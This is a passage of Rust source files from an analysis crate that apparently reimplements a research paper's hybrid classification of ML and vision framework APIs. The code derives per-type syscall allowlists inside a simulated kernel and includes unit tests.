    let inputs_mutated = args
        .iter()
        .zip(&input_snapshot)
        .any(|(a, before)| &observable(a, &mut kernel, &objects) != before)
        // Idempotent in-place edits (drawing) are not state.
        && {
            // Third run: if re-running changes inputs *again*, the
            // mutation depends on call history → stateful.
            let snap: Vec<Vec<u8>> = args
                .iter()
                .map(|a| observable(a, &mut kernel, &objects))
                .collect();
            run(&mut kernel, &mut objects);
            args.iter()
                .zip(&snap)
                .any(|(a, before)| &observable(a, &mut kernel, &objects) != before)
        };
    outputs_differ || inputs_mutated
}

/// Runs detection over the whole catalog, returning (heuristic, declared)
/// pairs for reporting.
pub fn stateful_report(reg: &ApiRegistry) -> Vec<(String, bool, bool)> {
    reg.iter()
        .map(|s| (s.name.clone(), detect_stateful(reg, s), s.stateful))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use freepart_frameworks::registry::standard_registry;

    #[test]
    fn capture_read_is_stateful() {
        let reg = standard_registry();
        let spec = reg.by_name("cv2.VideoCapture.read").unwrap();
        assert!(detect_stateful(&reg, spec));
    }

    #[test]
    fn train_step_is_stateful() {
        let reg = standard_registry();
        let spec = reg.by_name("torch.optim.SGD.step").unwrap();
        assert!(detect_stateful(&reg, spec));
    }

    #[test]
    fn pure_filters_are_not_stateful() {
        let reg = standard_registry();
        for name in ["cv2.GaussianBlur", "cv2.erode", "torch.nn.ReLU", "cv2.mean"] {
            let spec = reg.by_name(name).unwrap();
            assert!(!detect_stateful(&reg, spec), "{name} flagged stateful");
        }
    }

    #[test]
    fn idempotent_drawing_is_not_stateful() {
        let reg = standard_registry();
        let spec = reg.by_name("cv2.rectangle").unwrap();
        assert!(!detect_stateful(&reg, spec));
    }

    #[test]
    fn heuristic_has_no_false_positives_vs_registry() {
        let reg = standard_registry();
        for (name, detected, declared) in stateful_report(&reg) {
            if detected {
                assert!(declared, "{name}: heuristic claims state, registry denies");
            }
        }
    }

    #[test]
    fn drive_is_reexported_for_probe_use() {
        // Sanity: the probe helpers stay wired to the driver.
        let reg = standard_registry();
        let mut kernel = Kernel::new();
        let pid = kernel.spawn("x");
        let mut objects = ObjectStore::new();
        let spec = reg.by_name("cv2.mean").unwrap();
        assert!(crate::driver::drive(&reg, spec, &mut kernel, &mut objects, pid, 0).is_ok());
    }
}
