//! # freepart-analysis — hybrid framework-API categorization
//!
//! The offline half of FreePart (paper §4.2, Fig. 5 left): given the
//! framework API catalog, decide each API's type (loading / processing /
//! visualizing / storing), its required syscalls, and its flags
//! (type-neutral, stateful) — automatically.
//!
//! * [`static_analysis`] walks each API's body IR (the LLVM/PyCG
//!   stand-in). It is complete for transparent bodies and blind behind
//!   indirect calls.
//! * [`driver`] + [`dynamic`] execute APIs on a canonical test corpus
//!   under tracing and observe real flows and syscalls.
//! * [`hybrid`] merges both, matching the paper's design: dynamic
//!   evidence overrides static blindness; uncovered APIs keep static
//!   verdicts.
//! * [`classify`] holds the Fig. 9 pattern rules, including the
//!   memory-copy-via-file reduction.
//! * [`syscalls`] builds per-API and per-type syscall requirement sets
//!   (Fig. 12 / Table 7 inputs).
//! * [`coverage`] reports Table 11-style coverage.
//! * [`neutral`] / [`stateful`] detect type-neutral and stateful APIs.
//!
//! ```
//! use freepart_analysis::{dynamic::TestCorpus, hybrid};
//! use freepart_frameworks::registry::standard_registry;
//!
//! let reg = standard_registry();
//! let report = hybrid::categorize(&reg, &TestCorpus::full(&reg));
//! assert_eq!(report.accuracy(&reg), 1.0);
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod classify;
pub mod coverage;
pub mod driver;
pub mod dynamic;
pub mod hybrid;
pub mod neutral;
pub mod stateful;
pub mod static_analysis;
pub mod syscalls;

pub use classify::{classify_flows, reduce_flows};
pub use coverage::{coverage_table, CoverageRow};
pub use dynamic::{DynamicResult, TestCorpus};
pub use hybrid::{categorize, Categorization, Evidence, HybridReport};
pub use static_analysis::{analyze, StaticResult};
pub use syscalls::SyscallProfile;
