//! Syscall profiling (paper §4.4.1, Fig. 12, Table 7).
//!
//! Combines the static pass's visible syscalls with dynamic traces into
//! per-API required sets, then unions them per API type to produce the
//! allowlist each agent process gets.

use crate::dynamic::{analyze_all, TestCorpus};
use crate::static_analysis::analyze;
use freepart_frameworks::api::{ApiId, ApiRegistry, ApiType};
use freepart_simos::SyscallNo;
use std::collections::{BTreeMap, BTreeSet};

/// Per-API required-syscall profile from the hybrid analysis.
#[derive(Debug, Clone, Default)]
pub struct SyscallProfile {
    per_api: BTreeMap<ApiId, BTreeSet<SyscallNo>>,
}

impl SyscallProfile {
    /// Builds profiles for every API: the union of the registry's
    /// declared profile (the implementation's requirements), static IR
    /// evidence, and dynamic trace evidence.
    pub fn build(reg: &ApiRegistry, corpus: &TestCorpus) -> SyscallProfile {
        let dynamic = analyze_all(reg, corpus);
        let mut per_api = BTreeMap::new();
        for spec in reg.iter() {
            let mut set: BTreeSet<SyscallNo> = spec.syscall_profile.iter().copied().collect();
            set.extend(analyze(spec).syscalls);
            if let Some(d) = dynamic.get(&spec.id) {
                set.extend(d.syscalls.iter().copied());
            }
            per_api.insert(spec.id, set);
        }
        SyscallProfile { per_api }
    }

    /// Required syscalls of one API.
    ///
    /// # Panics
    ///
    /// Panics on an unprofiled id.
    pub fn of(&self, id: ApiId) -> &BTreeSet<SyscallNo> {
        &self.per_api[&id]
    }

    /// Union of required syscalls over a set of APIs (one agent
    /// process's allowlist, before runtime base calls).
    pub fn union_of<I: IntoIterator<Item = ApiId>>(&self, apis: I) -> BTreeSet<SyscallNo> {
        let mut out = BTreeSet::new();
        for id in apis {
            if let Some(set) = self.per_api.get(&id) {
                out.extend(set.iter().copied());
            }
        }
        out
    }

    /// Per-type unions given a type assignment (Table 7's rows).
    pub fn per_type(
        &self,
        assignment: &BTreeMap<ApiId, ApiType>,
    ) -> BTreeMap<ApiType, BTreeSet<SyscallNo>> {
        let mut out: BTreeMap<ApiType, BTreeSet<SyscallNo>> = BTreeMap::new();
        for (id, t) in assignment {
            if let Some(set) = self.per_api.get(id) {
                out.entry(*t).or_default().extend(set.iter().copied());
            }
        }
        out
    }

    /// Mean number of syscalls required per API (the paper reports ~6).
    pub fn mean_per_api(&self) -> f64 {
        if self.per_api.is_empty() {
            return 0.0;
        }
        self.per_api.values().map(BTreeSet::len).sum::<usize>() as f64 / self.per_api.len() as f64
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use freepart_frameworks::registry::standard_registry;

    #[test]
    fn imread_profile_matches_fig12() {
        let reg = standard_registry();
        let profile = SyscallProfile::build(&reg, &TestCorpus::full(&reg));
        let set = profile.of(reg.id_of("cv2.imread").unwrap());
        for sc in [
            SyscallNo::Openat,
            SyscallNo::Close,
            SyscallNo::Brk,
            SyscallNo::Fstat,
            SyscallNo::Read,
        ] {
            assert!(set.contains(&sc), "imread missing {sc:?}");
        }
        assert!(!set.contains(&SyscallNo::Connect));
        assert!(!set.contains(&SyscallNo::Fork));
    }

    #[test]
    fn per_type_union_shapes_match_table7() {
        let reg = standard_registry();
        let corpus = TestCorpus::full(&reg);
        let profile = SyscallProfile::build(&reg, &corpus);
        let assignment: BTreeMap<_, _> = reg.iter().map(|s| (s.id, s.declared_type)).collect();
        let per_type = profile.per_type(&assignment);
        let loading = &per_type[&ApiType::DataLoading];
        let processing = &per_type[&ApiType::DataProcessing];
        let viz = &per_type[&ApiType::Visualizing];
        let storing = &per_type[&ApiType::Storing];
        // Loading reads files/devices but never connects to the GUI.
        assert!(loading.contains(&SyscallNo::Openat));
        assert!(loading.contains(&SyscallNo::Ioctl));
        assert!(!viz.is_empty() && viz.contains(&SyscallNo::Connect));
        assert!(!processing.contains(&SyscallNo::Send));
        assert!(!processing.contains(&SyscallNo::Connect));
        assert!(storing.contains(&SyscallNo::Write));
        assert!(!storing.contains(&SyscallNo::Send));
        // Nobody needs fork or kill — the fork-bomb mitigation.
        for set in per_type.values() {
            assert!(!set.contains(&SyscallNo::Fork));
            assert!(!set.contains(&SyscallNo::Kill));
        }
    }

    #[test]
    fn mean_per_api_is_single_digit() {
        let reg = standard_registry();
        let profile = SyscallProfile::build(&reg, &TestCorpus::full(&reg));
        let mean = profile.mean_per_api();
        assert!((2.0..=10.0).contains(&mean), "mean {mean}");
    }

    #[test]
    fn union_of_merges_sets() {
        let reg = standard_registry();
        let profile = SyscallProfile::build(&reg, &TestCorpus::full(&reg));
        let a = reg.id_of("cv2.imread").unwrap();
        let b = reg.id_of("cv2.VideoCapture").unwrap();
        let union = profile.union_of([a, b]);
        assert!(union.len() >= profile.of(a).len());
        assert!(union.contains(&SyscallNo::Ioctl));
    }
}
