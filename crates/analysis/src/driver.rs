//! Dynamic-analysis test driver.
//!
//! The paper obtains dynamic evidence by running each framework API on
//! inputs from the frameworks' own example/test suites (§4.2.2). This
//! module is that corpus: for any [`ApiSpec`] it can synthesize canonical
//! inputs (files, camera frames, objects) and execute the API under a
//! traced [`ApiCtx`], yielding the observed flows and syscalls.

use freepart_frameworks::api::{ApiKind, ApiSpec};
use freepart_frameworks::exec::{execute, FrameworkError, CAMERA_FRAME_LEN};
use freepart_frameworks::image::Image;
use freepart_frameworks::tensor::Tensor;
use freepart_frameworks::{fileio, ApiCtx, ApiRegistry, ObjectKind, ObjectStore, Trace, Value};
use freepart_simos::device::Camera;
use freepart_simos::{Kernel, Pid};

/// Why an API could not be driven.
#[derive(Debug)]
pub enum DriveError {
    /// The execution failed.
    Exec(FrameworkError),
}

impl std::fmt::Display for DriveError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            DriveError::Exec(e) => write!(f, "execution failed: {e}"),
        }
    }
}

impl std::error::Error for DriveError {}

fn seed_mat(kernel: &mut Kernel, objects: &mut ObjectStore, pid: Pid, side: u32) -> Value {
    let mut img = Image::new(side, side, 3);
    for y in 0..side {
        for x in 0..side {
            for c in 0..3 {
                img.put(x, y, c, ((x * 13 + y * 29 + c * 3) % 256) as u8);
            }
        }
    }
    let id = objects
        .create_with_data(
            kernel,
            pid,
            ObjectKind::Mat {
                w: side,
                h: side,
                ch: 3,
            },
            "drive:mat",
            &img.data,
        )
        .expect("seed mat");
    Value::Obj(id)
}

fn seed_tensor(kernel: &mut Kernel, objects: &mut ObjectStore, pid: Pid, n: u32) -> Value {
    let t = Tensor::generate(&[n], |i| (i as f32 * 0.3).sin());
    let id = objects
        .create_with_data(
            kernel,
            pid,
            ObjectKind::Tensor { shape: vec![n] },
            "drive:tensor",
            &t.to_bytes(),
        )
        .expect("seed tensor");
    Value::Obj(id)
}

fn seed_blob(kernel: &mut Kernel, objects: &mut ObjectStore, pid: Pid) -> Value {
    let id = objects
        .create_with_data(kernel, pid, ObjectKind::Blob, "drive:blob", &[7u8; 128])
        .expect("seed blob");
    Value::Obj(id)
}

fn seed_table(kernel: &mut Kernel, objects: &mut ObjectStore, pid: Pid) -> Value {
    let bytes = fileio::encode_csv(&[vec![1.0, 2.0], vec![3.0, 4.0]]);
    let id = objects
        .create_with_data(
            kernel,
            pid,
            ObjectKind::Table { rows: 2, cols: 2 },
            "drive:table",
            &bytes,
        )
        .expect("seed table");
    Value::Obj(id)
}

/// Synthesizes canonical arguments for one API, seeding any files,
/// camera, or objects it needs. `salt` keeps file names unique when the
/// same API is driven repeatedly.
pub fn canonical_args(
    spec: &ApiSpec,
    kernel: &mut Kernel,
    objects: &mut ObjectStore,
    pid: Pid,
    salt: u64,
) -> Vec<Value> {
    use ApiKind as K;
    let img_path = format!("/drive/{}-{salt}.simg", spec.id);
    let tsr_path = format!("/drive/{}-{salt}.stsr", spec.id);
    let out_path = format!("/drive/out-{}-{salt}", spec.id);
    match spec.kind {
        K::ImRead => {
            let img = Image::new(16, 16, 3);
            kernel.fs.put(&img_path, fileio::encode_image(&img, None));
            vec![Value::Str(img_path)]
        }
        K::ClassifierLoad => {
            kernel.fs.put(&img_path, vec![3u8; 96]);
            vec![Value::Str(img_path)]
        }
        K::TensorLoad => {
            let t = Tensor::generate(&[32], |i| i as f32);
            kernel.fs.put(&tsr_path, fileio::encode_tensor(&t, None));
            vec![Value::Str(tsr_path)]
        }
        K::ReadCsv => {
            kernel
                .fs
                .put(&out_path, fileio::encode_csv(&[vec![1.0], vec![2.0]]));
            vec![Value::Str(out_path)]
        }
        K::JsonLoad => {
            kernel.fs.put(&out_path, b"{\"k\": 1}".to_vec());
            vec![Value::Str(out_path)]
        }
        K::VideoCaptureNew => {
            if kernel.camera.is_none() {
                kernel.camera = Some(Camera::new(11, CAMERA_FRAME_LEN));
            }
            vec![Value::I64(0)]
        }
        K::VideoCaptureRead => {
            if kernel.camera.is_none() {
                kernel.camera = Some(Camera::new(11, CAMERA_FRAME_LEN));
            }
            let id =
                objects.create_handle(pid, ObjectKind::Capture { frames_read: 0 }, "drive:cap");
            vec![Value::Obj(id)]
        }
        K::ImWrite | K::VideoWriterWrite => {
            let mat = seed_mat(kernel, objects, pid, 8);
            vec![Value::Str(out_path), mat]
        }
        K::ImShow => {
            let mat = seed_mat(kernel, objects, pid, 8);
            vec![Value::Str(format!("drive-win-{salt}")), mat]
        }
        K::DetectMultiScale => {
            kernel.fs.put(&img_path, vec![2u8; 32]);
            let clf = objects
                .create_with_data(
                    kernel,
                    pid,
                    ObjectKind::Classifier { stages: 4 },
                    "drive:clf",
                    &[2u8; 32],
                )
                .expect("seed classifier");
            let mat = seed_mat(kernel, objects, pid, 32);
            vec![Value::Obj(clf), mat]
        }
        K::Filter(_) | K::FindContours | K::Reduce => {
            vec![seed_mat(kernel, objects, pid, 16)]
        }
        K::Binary(_) => vec![
            seed_mat(kernel, objects, pid, 16),
            seed_mat(kernel, objects, pid, 16),
        ],
        K::Resize => vec![
            seed_mat(kernel, objects, pid, 16),
            Value::I64(8),
            Value::I64(8),
        ],
        K::Crop => vec![
            seed_mat(kernel, objects, pid, 16),
            Value::I64(2),
            Value::I64(2),
            Value::I64(8),
            Value::I64(8),
        ],
        K::DrawRect => vec![
            seed_mat(kernel, objects, pid, 16),
            Value::I64(1),
            Value::I64(1),
            Value::I64(5),
            Value::I64(5),
        ],
        K::PutText => vec![
            seed_mat(kernel, objects, pid, 16),
            Value::from("t"),
            Value::I64(0),
            Value::I64(0),
        ],
        K::Window(freepart_frameworks::api::WindowOp::Named) => {
            vec![Value::Str(format!("drive-{salt}"))]
        }
        K::Window(_) | K::GuiStateRead => vec![],
        K::TensorSave => {
            let t = seed_tensor(kernel, objects, pid, 16);
            vec![Value::Str(out_path), t]
        }
        K::TensorUnary(_)
        | K::TensorConv
        | K::TensorPoolMax
        | K::TensorPoolAvg
        | K::TensorMatmul => vec![seed_tensor(kernel, objects, pid, 36)],
        K::Forward => vec![
            seed_tensor(kernel, objects, pid, 36),
            seed_tensor(kernel, objects, pid, 36),
        ],
        K::TrainStep => vec![
            seed_tensor(kernel, objects, pid, 16),
            seed_tensor(kernel, objects, pid, 16),
            Value::F64(1.0),
        ],
        K::TensorNew => vec![Value::I64(16)],
        K::DownloadViaFile => vec![Value::Str(format!("http://corpus/{salt}"))],
        K::DatasetLoad => {
            let dir = format!("/drive/ds-{}-{salt}/", spec.id);
            for i in 0..2 {
                let img = Image::new(4, 4, 3);
                kernel
                    .fs
                    .put(&format!("{dir}{i}.simg"), fileio::encode_image(&img, None));
            }
            vec![Value::Str(dir)]
        }
        K::WriteCsv => {
            let t = seed_table(kernel, objects, pid);
            vec![Value::Str(out_path), t]
        }
        K::JsonDump | K::PlotSavefig => {
            let b = seed_blob(kernel, objects, pid);
            vec![Value::Str(out_path), b]
        }
        K::PlotAdd => vec![Value::List(vec![Value::F64(1.0), Value::F64(2.0)])],
        K::PlotShow => vec![seed_blob(kernel, objects, pid)],
        K::SummaryWrite => vec![Value::Str(out_path), Value::from("step=1 loss=0.5")],
        K::AllocUtil => vec![Value::I64(64)],
    }
}

/// Drives one API on canonical inputs and returns its dynamic trace and
/// result value.
///
/// # Errors
///
/// [`DriveError::Exec`] when the API itself failed.
pub fn drive(
    reg: &ApiRegistry,
    spec: &ApiSpec,
    kernel: &mut Kernel,
    objects: &mut ObjectStore,
    pid: Pid,
    salt: u64,
) -> Result<(Trace, Value), DriveError> {
    let args = canonical_args(spec, kernel, objects, pid, salt);
    let mut ctx = ApiCtx::traced(kernel, objects, pid);
    let result = execute(reg, spec.id, &args, &mut ctx).map_err(DriveError::Exec)?;
    let trace = ctx.take_trace().expect("trace enabled");
    Ok((trace, result))
}

#[cfg(test)]
mod tests {
    use super::*;
    use freepart_frameworks::registry::standard_registry;

    #[test]
    fn every_api_in_the_catalog_is_drivable() {
        let reg = standard_registry();
        let mut kernel = Kernel::new();
        let pid = kernel.spawn("corpus");
        let mut objects = ObjectStore::new();
        for (i, spec) in reg.iter().enumerate() {
            let r = drive(&reg, spec, &mut kernel, &mut objects, pid, i as u64);
            assert!(r.is_ok(), "{} not drivable: {}", spec.name, r.unwrap_err());
        }
    }

    #[test]
    fn traces_contain_flows_and_syscalls() {
        let reg = standard_registry();
        let mut kernel = Kernel::new();
        let pid = kernel.spawn("corpus");
        let mut objects = ObjectStore::new();
        let spec = reg.by_name("cv2.imread").unwrap();
        let (trace, _) = drive(&reg, spec, &mut kernel, &mut objects, pid, 0).unwrap();
        assert!(!trace.flows.is_empty());
        assert!(trace.syscalls.contains(&freepart_simos::SyscallNo::Openat));
    }
}
