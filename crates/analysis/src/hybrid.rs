//! Hybrid categorization: static first, dynamic where the static pass is
//! blind or uncovered APIs keep their static verdicts (paper §4.2.2).

use crate::dynamic::{analyze_all, DynamicResult, TestCorpus};
use crate::static_analysis::{analyze, StaticResult};
use freepart_frameworks::api::{ApiId, ApiRegistry, ApiType};
use std::collections::BTreeMap;

/// Where an API's final type label came from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Evidence {
    /// Static analysis alone (API outside the dynamic corpus).
    StaticOnly,
    /// Dynamic trace alone (static was opaque).
    DynamicOnly,
    /// Both agreed / were merged.
    Both,
}

/// Final categorization of one API.
#[derive(Debug, Clone)]
pub struct Categorization {
    /// Which API.
    pub api: ApiId,
    /// The label the partitioner will use.
    pub final_type: ApiType,
    /// Static verdict, with its confidence.
    pub static_result: StaticResult,
    /// Dynamic verdict, when the corpus covered the API.
    pub dynamic_result: Option<DynamicResult>,
    /// Evidence provenance.
    pub evidence: Evidence,
}

/// Hybrid-analysis output over a whole registry.
#[derive(Debug, Clone, Default)]
pub struct HybridReport {
    /// Per-API categorizations.
    pub per_api: BTreeMap<ApiId, Categorization>,
}

impl HybridReport {
    /// The final type of an API.
    ///
    /// # Panics
    ///
    /// Panics on an id that was not categorized.
    pub fn type_of(&self, id: ApiId) -> ApiType {
        self.per_api[&id].final_type
    }

    /// Fraction of APIs whose final type matches the registry's declared
    /// ground truth.
    pub fn accuracy(&self, reg: &ApiRegistry) -> f64 {
        if self.per_api.is_empty() {
            return 1.0;
        }
        let correct = self
            .per_api
            .values()
            .filter(|c| c.final_type == reg.spec(c.api).declared_type)
            .count();
        correct as f64 / self.per_api.len() as f64
    }

    /// APIs whose final type disagrees with ground truth (the
    /// miscategorization set of §6).
    pub fn miscategorized(&self, reg: &ApiRegistry) -> Vec<ApiId> {
        self.per_api
            .values()
            .filter(|c| c.final_type != reg.spec(c.api).declared_type)
            .map(|c| c.api)
            .collect()
    }

    /// Count of APIs per final type.
    pub fn counts_by_type(&self) -> BTreeMap<ApiType, usize> {
        let mut out = BTreeMap::new();
        for c in self.per_api.values() {
            *out.entry(c.final_type).or_insert(0) += 1;
        }
        out
    }
}

/// Runs the full hybrid analysis over a registry with the given corpus.
pub fn categorize(reg: &ApiRegistry, corpus: &TestCorpus) -> HybridReport {
    let dynamic = analyze_all(reg, corpus);
    let mut per_api = BTreeMap::new();
    for spec in reg.iter() {
        let static_result = analyze(spec);
        let dynamic_result = dynamic.get(&spec.id).cloned();
        let (final_type, evidence) = match (&static_result, &dynamic_result) {
            (s, Some(d)) => {
                // Union the evidence: flows observed either way count.
                let mut flows = s.flows.clone();
                flows.extend(d.flows.iter().copied());
                let merged = crate::classify::classify_flows(&flows);
                let ev = if s.confident() {
                    Evidence::Both
                } else {
                    Evidence::DynamicOnly
                };
                (merged, ev)
            }
            (s, None) => (s.inferred, Evidence::StaticOnly),
        };
        per_api.insert(
            spec.id,
            Categorization {
                api: spec.id,
                final_type,
                static_result,
                dynamic_result,
                evidence,
            },
        );
    }
    HybridReport { per_api }
}

#[cfg(test)]
mod tests {
    use super::*;
    use freepart_frameworks::registry::standard_registry;

    #[test]
    fn hybrid_is_fully_accurate_with_full_corpus() {
        let reg = standard_registry();
        let report = categorize(&reg, &TestCorpus::full(&reg));
        assert_eq!(
            report.accuracy(&reg),
            1.0,
            "{:?}",
            report.miscategorized(&reg)
        );
        assert_eq!(report.per_api.len(), reg.len());
    }

    #[test]
    fn opaque_apis_resolved_by_dynamic_evidence() {
        let reg = standard_registry();
        let report = categorize(&reg, &TestCorpus::full(&reg));
        let id = reg.id_of("pd.read_csv").unwrap();
        let c = &report.per_api[&id];
        assert_eq!(c.final_type, ApiType::DataLoading);
        assert_eq!(c.evidence, Evidence::DynamicOnly);
        // A transparent API gets corroborated by both.
        let id = reg.id_of("cv2.imread").unwrap();
        assert_eq!(report.per_api[&id].evidence, Evidence::Both);
    }

    #[test]
    fn uncovered_opaque_api_is_miscategorized_static_only() {
        use freepart_frameworks::api::Framework;
        use std::collections::{BTreeMap, BTreeSet};
        let reg = standard_registry();
        // Cover nothing in pandas: read_csv falls back to its (wrong)
        // static verdict — the §6 miscategorization scenario.
        let mut fractions = BTreeMap::new();
        fractions.insert(Framework::Pandas, 0.0);
        let corpus = crate::dynamic::TestCorpus::with_coverage(&reg, &fractions, &BTreeSet::new());
        let report = categorize(&reg, &corpus);
        let id = reg.id_of("pd.read_csv").unwrap();
        assert_eq!(report.per_api[&id].evidence, Evidence::StaticOnly);
        assert_eq!(report.per_api[&id].final_type, ApiType::DataProcessing);
        assert!(report.miscategorized(&reg).contains(&id));
        assert!(report.accuracy(&reg) < 1.0);
    }

    #[test]
    fn counts_by_type_cover_all_four() {
        let reg = standard_registry();
        let report = categorize(&reg, &TestCorpus::full(&reg));
        let counts = report.counts_by_type();
        for t in ApiType::ALL {
            assert!(counts.get(&t).copied().unwrap_or(0) > 0, "{t} empty");
        }
    }
}
