//! Dynamic pass: categorization evidence from traced executions.
//!
//! The paper's dynamic analysis runs each API on the frameworks' own
//! examples/test suites and observes concrete data flows. Coverage is
//! high but not total (Table 11) — APIs outside the corpus keep only
//! their static verdicts. [`TestCorpus`] models exactly that: which APIs
//! the corpus exercises.

use crate::classify::classify_flows;
use crate::driver;
use freepart_frameworks::api::{ApiId, ApiRegistry, ApiType, Framework};
use freepart_frameworks::{ObjectStore, Trace};
use freepart_simos::{Kernel, SyscallNo};
use std::collections::{BTreeMap, BTreeSet};

/// Which APIs the dynamic test corpus can exercise.
#[derive(Debug, Clone)]
pub struct TestCorpus {
    covered: BTreeSet<ApiId>,
}

impl TestCorpus {
    /// A corpus covering every registered API.
    pub fn full(reg: &ApiRegistry) -> TestCorpus {
        TestCorpus {
            covered: reg.iter().map(|s| s.id).collect(),
        }
    }

    /// A corpus covering a per-framework fraction of APIs, never
    /// dropping anything in `keep` (the paper's observation: uncovered
    /// APIs are exactly those no evaluated program uses).
    ///
    /// Selection is deterministic: APIs are dropped in reverse
    /// name-order until the target fraction is met.
    pub fn with_coverage(
        reg: &ApiRegistry,
        fractions: &BTreeMap<Framework, f64>,
        keep: &BTreeSet<ApiId>,
    ) -> TestCorpus {
        let mut covered: BTreeSet<ApiId> = reg.iter().map(|s| s.id).collect();
        for (fw, frac) in fractions {
            let mut of_fw: Vec<_> = reg
                .of_framework(*fw)
                .iter()
                .map(|s| (s.name.clone(), s.id))
                .collect();
            of_fw.sort();
            let total = of_fw.len();
            let target = (total as f64 * frac).round() as usize;
            let mut to_drop = total.saturating_sub(target);
            for (_, id) in of_fw.iter().rev() {
                if to_drop == 0 {
                    break;
                }
                if keep.contains(id) {
                    continue;
                }
                covered.remove(id);
                to_drop -= 1;
            }
        }
        TestCorpus { covered }
    }

    /// True when the corpus exercises this API.
    pub fn covers(&self, id: ApiId) -> bool {
        self.covered.contains(&id)
    }

    /// Number of covered APIs.
    pub fn len(&self) -> usize {
        self.covered.len()
    }

    /// True when nothing is covered.
    pub fn is_empty(&self) -> bool {
        self.covered.is_empty()
    }
}

/// Evidence gathered by one dynamic run of one API.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DynamicResult {
    /// Observed data flows.
    pub flows: BTreeSet<freepart_frameworks::FlowOp>,
    /// Observed syscalls.
    pub syscalls: BTreeSet<SyscallNo>,
    /// Type implied by the observed flows.
    pub inferred: ApiType,
}

impl DynamicResult {
    fn from_trace(trace: &Trace) -> DynamicResult {
        let flows: BTreeSet<_> = trace.flows.iter().copied().collect();
        let syscalls: BTreeSet<_> = trace.syscalls.iter().copied().collect();
        let inferred = classify_flows(&flows);
        DynamicResult {
            flows,
            syscalls,
            inferred,
        }
    }
}

/// Runs the dynamic pass over every covered API in a fresh sandbox
/// kernel, returning per-API evidence.
pub fn analyze_all(reg: &ApiRegistry, corpus: &TestCorpus) -> BTreeMap<ApiId, DynamicResult> {
    let mut kernel = Kernel::new();
    let pid = kernel.spawn("dynamic-analysis");
    let mut objects = ObjectStore::new();
    let mut out = BTreeMap::new();
    for (i, spec) in reg.iter().enumerate() {
        if !corpus.covers(spec.id) {
            continue;
        }
        if let Ok((trace, _)) = driver::drive(reg, spec, &mut kernel, &mut objects, pid, i as u64) {
            out.insert(spec.id, DynamicResult::from_trace(&trace));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use freepart_frameworks::registry::standard_registry;

    #[test]
    fn full_corpus_analyzes_everything() {
        let reg = standard_registry();
        let corpus = TestCorpus::full(&reg);
        let results = analyze_all(&reg, &corpus);
        assert_eq!(results.len(), reg.len());
    }

    #[test]
    fn dynamic_sees_through_opacity() {
        let reg = standard_registry();
        let corpus = TestCorpus::full(&reg);
        let results = analyze_all(&reg, &corpus);
        // pd.read_csv is statically opaque but dynamically obvious.
        let id = reg.id_of("pd.read_csv").unwrap();
        assert_eq!(results[&id].inferred, ApiType::DataLoading);
        let id = reg.id_of("plt.show").unwrap();
        assert_eq!(results[&id].inferred, ApiType::Visualizing);
    }

    #[test]
    fn partial_corpus_respects_fractions_and_keep_set() {
        let reg = standard_registry();
        let keep: BTreeSet<_> = [reg.id_of("cv2.imread").unwrap()].into_iter().collect();
        let mut fractions = BTreeMap::new();
        fractions.insert(Framework::OpenCv, 0.5);
        let corpus = TestCorpus::with_coverage(&reg, &fractions, &keep);
        let cv_total = reg.of_framework(Framework::OpenCv).len();
        let cv_covered = reg
            .of_framework(Framework::OpenCv)
            .iter()
            .filter(|s| corpus.covers(s.id))
            .count();
        assert!(cv_covered <= cv_total / 2 + 1, "{cv_covered}/{cv_total}");
        assert!(corpus.covers(reg.id_of("cv2.imread").unwrap()));
        // Other frameworks untouched.
        assert!(corpus.covers(reg.id_of("torch.load").unwrap()));
    }

    #[test]
    fn dynamic_matches_ground_truth_on_full_corpus() {
        let reg = standard_registry();
        let corpus = TestCorpus::full(&reg);
        let results = analyze_all(&reg, &corpus);
        let mut mismatches = Vec::new();
        for spec in reg.iter() {
            let got = results[&spec.id].inferred;
            if got != spec.declared_type {
                mismatches.push(format!(
                    "{}: {got:?} != {:?}",
                    spec.name, spec.declared_type
                ));
            }
        }
        assert!(mismatches.is_empty(), "{mismatches:#?}");
    }
}
