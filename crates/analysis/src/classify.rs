//! Data-flow-pattern classification (paper §4.2.1, Fig. 9).
//!
//! Both the static and dynamic passes reduce an API to a set of
//! [`FlowOp`]s; this module turns that set into an [`ApiType`]:
//!
//! 1. **File-mediated copies are canonicalized away** — a
//!    `W(FILE, R(MEM))` + `W(MEM, R(FILE))` pair is the temp-file idiom
//!    and reduces to `W(MEM, R(MEM))` (§4.2.1 "Memory Copy via Files").
//! 2. Any GUI-touching op ⇒ **Visualizing**.
//! 3. `W(MEM, R(FILE|DEV))` ⇒ **Data Loading**.
//! 4. `W(FILE|DEV, R(MEM))` ⇒ **Storing**.
//! 5. Otherwise ⇒ **Data Processing** (the paper's default for pure
//!    memory-to-memory APIs).

use freepart_frameworks::api::ApiType;
use freepart_frameworks::ir::{FlowOp, Storage};
use std::collections::BTreeSet;

/// Applies the temp-file reduction, returning the canonical flow set.
pub fn reduce_flows(flows: &BTreeSet<FlowOp>) -> BTreeSet<FlowOp> {
    let mut out = flows.clone();
    let spill = FlowOp::write(Storage::File, Storage::Mem);
    let refill = FlowOp::write(Storage::Mem, Storage::File);
    if out.contains(&spill) && out.contains(&refill) {
        out.remove(&spill);
        out.remove(&refill);
        out.insert(FlowOp::write(Storage::Mem, Storage::Mem));
    }
    out
}

/// Classifies a canonical flow set into one of the four API types.
pub fn classify_flows(flows: &BTreeSet<FlowOp>) -> ApiType {
    let flows = reduce_flows(flows);
    if flows.iter().any(FlowOp::touches_gui) {
        return ApiType::Visualizing;
    }
    let loads = flows.iter().any(|f| {
        matches!(
            f,
            FlowOp::Write {
                dst: Storage::Mem,
                src: Storage::File | Storage::Dev,
            }
        )
    });
    if loads {
        return ApiType::DataLoading;
    }
    let stores = flows.iter().any(|f| {
        matches!(
            f,
            FlowOp::Write {
                dst: Storage::File | Storage::Dev,
                src: Storage::Mem,
            }
        )
    });
    if stores {
        return ApiType::Storing;
    }
    ApiType::DataProcessing
}

#[cfg(test)]
mod tests {
    use super::*;

    fn set(ops: &[FlowOp]) -> BTreeSet<FlowOp> {
        ops.iter().copied().collect()
    }

    #[test]
    fn pure_memory_is_processing() {
